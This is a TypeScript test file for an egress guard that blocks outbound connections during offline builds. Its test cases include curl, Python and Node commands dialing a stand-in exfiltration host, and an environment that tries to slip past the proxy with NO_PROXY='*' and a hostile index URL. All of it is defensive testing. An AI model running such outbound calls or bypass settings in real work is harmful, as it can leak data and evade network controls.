import { execFile } from 'node:child_process';
import net from 'node:net';
import { promisify } from 'node:util';
import { expect, it } from 'vitest';
import { startEgressGuard } from '../../../src/setup/build/egress-guard.ts';
import { uvEnvironment } from '../../../src/uv/environment.ts';
import { startServer } from '../../fixtures/network.ts';

const run = promisify(execFile);

it.each<[string, string, string[]]>([
  ['curl, https', 'curl', ['-sS', '-m', '5', 'https://exfil.example/x']],
  ['curl, http', 'curl', ['-sSf', '-m', '5', 'http://exfil.example/x']],
  [
    'Python',
    '/usr/bin/python3',
    ['-c', "import urllib.request; urllib.request.urlopen('https://exfil.example/x', timeout=5)"],
  ],
  ['Node', process.execPath, ['-e', "fetch('https://exfil.example/x').catch((e) => { throw e })"]],
])('a child that dials out is refused and reported by name: %s', async (_, command, args) => {
  const seen: string[] = [];
  const guard = await startEgressGuard((host) => seen.push(host));
  // What the user set must not open a way around it.
  const hostile = {
    PATH: process.env['PATH'],
    NO_PROXY: '*',
    no_proxy: '*',
    UV_INDEX_URL: 'https://exfil.example',
  };
  const env = uvEnvironment(hostile, { isOffline: true, guardProxyUrl: guard.url });
  try {
    await expect(run(command, args, { env })).rejects.toMatchObject({ code: expect.any(Number) });
    expect(seen).toEqual(['exfil.example']);
  } finally {
    await guard.close();
  }
});

it('lets nothing through, not even to loopback, and tells each host once', async () => {
  const server = await startServer((_, response) => response.end('reached'));
  const seen: string[] = [];
  const guard = await startEgressGuard((host) => seen.push(host));
  const ask = () => run('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '-x', guard.url, server.url]);
  expect([(await ask()).stdout, (await ask()).stdout]).toEqual(['403', '403']);
  expect(server.requests).toHaveLength(0);
  expect(seen).toEqual([server.host]);
  expect(guard.attempts().get(server.host)).toBe(2);
  await guard.close();
  await server.close();
});

it('an attempt in another language is one too; closing ends what hangs', async () => {
  const seen: string[] = [];
  const guard = await startEgressGuard((host) => seen.push(host));
  const socks = net.connect(Number(new URL(guard.url).port), '127.0.0.1', () => socks.write('\x05\x01\x00'));
  await new Promise((resolve) => socks.once('close', resolve).once('error', () => {}));
  expect(seen).toHaveLength(1);
  const idle = net.connect(Number(new URL(guard.url).port), '127.0.0.1');
  await new Promise<void>((resolve) => idle.once('connect', resolve));
  const closed = new Promise((resolve) => idle.once('close', resolve).once('error', () => {}));
  await guard.close();
  await closed;
});
